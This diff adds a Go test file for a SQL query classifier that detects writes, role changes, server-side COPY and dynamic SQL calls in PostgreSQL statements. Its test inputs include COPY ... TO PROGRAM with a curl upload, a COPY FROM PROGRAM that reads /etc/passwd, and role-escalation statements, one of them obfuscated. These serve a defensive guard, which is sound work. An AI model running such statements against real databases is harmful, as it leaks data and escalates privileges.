@@ -0,0 +1,185 @@
+package main
+
+import (
+	"strings"
+	"testing"
+)
+
+func TestStatementWrites(t *testing.T) {
+	cases := []struct {
+		query  string
+		writes bool
+	}{
+		{"SELECT * FROM users", false},
+		{"  -- leading comment\n select 1", false},
+		{"/* nested /* comment */ */ DELETE FROM users", true},
+		{"insert into users (username) values ('a')", true},
+		{"UPDATE users SET bio = 'x' WHERE id = 1", true},
+		{"WITH moved AS (DELETE FROM posts RETURNING *) SELECT count(*) FROM moved", true},
+		{"WITH recent AS (SELECT * FROM posts) SELECT * FROM recent", false},
+		{"WITH recent AS (SELECT * FROM posts) INSERT INTO archive SELECT * FROM recent", true},
+		{"SELECT * FROM users FOR UPDATE", false},
+		{"SELECT 'DELETE FROM users' AS text", false},
+		{"SELECT $$ (DELETE FROM users) $$", false},
+		{`SELECT "delete" FROM (SELECT 1 AS "delete") t`, false},
+		{"SELECT * INTO users_copy FROM users", true},
+		{"SELECT * FROM users WHERE id IN (SELECT user_id FROM posts)", false},
+		{"CREATE TABLE t AS SELECT 1", true},
+		{"EXECUTE my_statement(1)", true},
+		{"SELECT E'it\\'s (DELETE' FROM users", false},
+	}
+
+	for _, c := range cases {
+		if got := statementWrites(c.query); got != c.writes {
+			t.Errorf("statementWrites(%q) = %t, expected %t", c.query, got, c.writes)
+		}
+	}
+}
+
+func TestStatementKeyword(t *testing.T) {
+	if keyword := statementKeyword("/* hint */ -- note\n  explain select 1"); keyword != "EXPLAIN" {
+		t.Errorf("Expected EXPLAIN, got %q", keyword)
+	}
+	if keyword := statementKeyword("   "); keyword != "" {
+		t.Errorf("Expected empty keyword, got %q", keyword)
+	}
+}
+
+func TestStatementTargets(t *testing.T) {
+	cases := []struct {
+		query   string
+		targets []string
+	}{
+		{"SELECT * FROM users FOR UPDATE", nil},
+		{"INSERT INTO users (username) VALUES ('a') ON CONFLICT (username) DO UPDATE SET bio = 'x'", []string{"INSERT users"}},
+		{"update ONLY Public.Users set bio = 'x'", []string{"UPDATE public.users"}},
+		{`DELETE FROM "Audit"."Log Entries" WHERE id = 1`, []string{"DELETE Audit.Log Entries"}},
+		{"WITH moved AS (DELETE FROM posts RETURNING *) INSERT INTO archive SELECT * FROM moved", []string{"DELETE posts", "INSERT archive"}},
+		{"MERGE INTO listings l USING users u ON l.user_id = u.id WHEN MATCHED THEN DELETE", []string{"MERGE listings"}},
+	}
+
+	for _, c := range cases {
+		var got []string
+		for _, target := range statementTargets(c.query) {
+			got = append(got, target.Verb+" "+strings.Join(target.Name, "."))
+		}
+		if strings.Join(got, ", ") != strings.Join(c.targets, ", ") {
+			t.Errorf("statementTargets(%q) = %v, expected %v", c.query, got, c.targets)
+		}
+	}
+}
+
+func TestStatementRelations(t *testing.T) {
+	cases := []struct {
+		query     string
+		relations []string
+	}{
+		{"SELECT * FROM users u JOIN posts p ON p.user_id = u.id", []string{"users", "posts"}},
+		{"SELECT * FROM users, public.posts AS p, LATERAL unnest(p.tags) WHERE true", []string{"users", "public.posts"}},
+		{"SELECT EXTRACT(year FROM created_at), a IS DISTINCT FROM b FROM generate_series(1, 3), comments", []string{"comments"}},
+		{"SELECT * FROM (SELECT 1) s, listings WHERE id IN (SELECT user_id FROM friendships)", []string{"listings", "friendships"}},
+		{`UPDATE "Audit".log SET note = 'FROM users' FROM events e, posts WHERE e.id = 1`, []string{"Audit.log", "events", "posts"}},
+		{"INSERT INTO archive (id, body) SELECT id, body FROM ONLY posts", []string{"archive", "posts"}},
+		{"WITH recent AS (SELECT * FROM posts) SELECT * FROM recent ORDER BY id, title", []string{"posts", "recent"}},
+		{"TABLE users", []string{"users"}},
+		{"SELECT * FROM users FOR UPDATE OF users", []string{"users"}},
+	}
+
+	for _, c := range cases {
+		var relations []string
+		for _, name := range statementRelations(c.query) {
+			relations = append(relations, strings.Join(name, "."))
+		}
+		if strings.Join(relations, ",") != strings.Join(c.relations, ",") {
+			t.Errorf("statementRelations(%q) = %v, expected %v", c.query, relations, c.relations)
+		}
+	}
+}
+
+func TestStatementCategory(t *testing.T) {
+	cases := map[string]string{
+		"SELECT * FROM users": categoryRead,
+		"  /* hint */ with recent AS (SELECT 1) SELECT * FROM recent": categoryRead,
+		"SHOW work_mem":                                                   categoryRead,
+		"EXPLAIN DELETE FROM users":                                       categoryRead,
+		"EXPLAIN (ANALYZE false) DELETE FROM users":                       categoryRead,
+		"EXPLAIN (ANALYZE, FORMAT JSON) DELETE FROM users":                categoryDML,
+		"EXPLAIN ANALYZE VERBOSE SELECT 1":                                categoryRead,
+		"UPDATE users SET bio = 'x'":                                      categoryDML,
+		"WITH gone AS (DELETE FROM posts RETURNING *) SELECT * FROM gone": categoryDML,
+		"COPY users FROM STDIN":                                           categoryDML,
+		"COPY (SELECT 1) TO STDOUT":                                       categoryRead,
+		"DO $$ BEGIN DELETE FROM users; END $$":                           categoryDML,
+		"SELECT * INTO users_copy FROM users":                             categoryDDL,
+		"CREATE INDEX ON users (bio)":                                     categoryDDL,
+		"truncate users":                                                  categoryDDL,
+		"VACUUM (ANALYZE) users":                                          categoryMaintenance,
+		"REFRESH MATERIALIZED VIEW listing_category_stats":                categoryMaintenance,
+		"SET search_path TO public":                                       categoryOther,
+		"BEGIN":                                                           categoryOther,
+		"":                                                                categoryOther,
+	}
+	for query, expected := range cases {
+		if category := statementCategory(query); category != expected {
+			t.Errorf("statementCategory(%q) = %q, expected %q", query, category, expected)
+		}
+	}
+}
+
+func TestChangesRole(t *testing.T) {
+	cases := map[string]bool{
+		"SET ROLE reporting":                          true,
+		"set local role reporting":                    true,
+		"SET \"role\" = 'postgres'":                   true,
+		"RESET ROLE":                                  true,
+		"SET SESSION AUTHORIZATION postgres":          true,
+		"RESET SESSION AUTHORIZATION":                 true,
+		"SET LOCAL SESSION AUTHORIZATION DEFAULT":     true,
+		"DISCARD ALL":                                 true,
+		"SELECT set_config('role', 'postgres', true)": true,
+		"SELECT pg_catalog.set_config('Session_Authorization', 'postgres', false)":        true,
+		"SELECT set_config('ro' || 'le', 'postgres', true)":                               true,
+		"SELECT set_config(name, 'x', true) FROM settings":                                true,
+		"ALTER FUNCTION elevate() SET role = 'postgres'":                                  true,
+		"SELECT 1; RESET ROLE":                                                            true,
+		"SELECT set_config('work_mem', '64MB', true)":                                     false,
+		"SET search_path TO public":                                                       false,
+		"UPDATE users SET role = 'admin'":                                                 false,
+		"INSERT INTO users (role) VALUES ('x') ON CONFLICT (id) DO UPDATE SET role = 'y'": false,
+		"SELECT 'SET ROLE postgres'":                                                      false,
+		"ALTER TABLE users ALTER COLUMN role SET DEFAULT 'member'":                        false,
+	}
+	for query, expected := range cases {
+		if changes := changesRole(query); changes != expected {
+			t.Errorf("changesRole(%q) = %v, expected %v", query, changes, expected)
+		}
+	}
+}
+
+func TestCopiesServerSide(t *testing.T) {
+	cases := map[string]bool{
+		"COPY users TO '/tmp/users.csv'":                       true,
+		"COPY (SELECT * FROM users) TO PROGRAM 'curl -d @- x'": true,
+		"copy users from program 'cat /etc/passwd'":            true,
+		"COPY users (id, bio) FROM '/tmp/users.csv' CSV":       true,
+		"COPY users TO STDOUT":                                 false,
+		"COPY (SELECT 'TO' FROM users) TO STDOUT WITH CSV":     false,
+		"COPY users FROM STDIN":                                false,
+		"SELECT * FROM users WHERE bio = 'TO PROGRAM'":         false,
+	}
+	for query, expected := range cases {
+		if copies := copiesServerSide(query); copies != expected {
+			t.Errorf("copiesServerSide(%q) = %v, expected %v", query, copies, expected)
+		}
+	}
+}
+
+func TestDynamicSQLCalls(t *testing.T) {
+	calls := dynamicSQLCalls("SELECT query_to_xml('select * from secret.t', true, false, ''), pg_catalog.TABLE_TO_XML('secret.t', true, false, ''), query_to_xml('x', true, false, '')")
+	if len(calls) != 2 || calls[0] != "query_to_xml" || calls[1] != "table_to_xml" {
+		t.Errorf("Expected query_to_xml and table_to_xml, got %v", calls)
+	}
+	if calls := dynamicSQLCalls("SELECT 'query_to_xml(1)', query_to_xml FROM reports"); len(calls) != 0 {
+		t.Errorf("Expected no calls, got %v", calls)
+	}
+}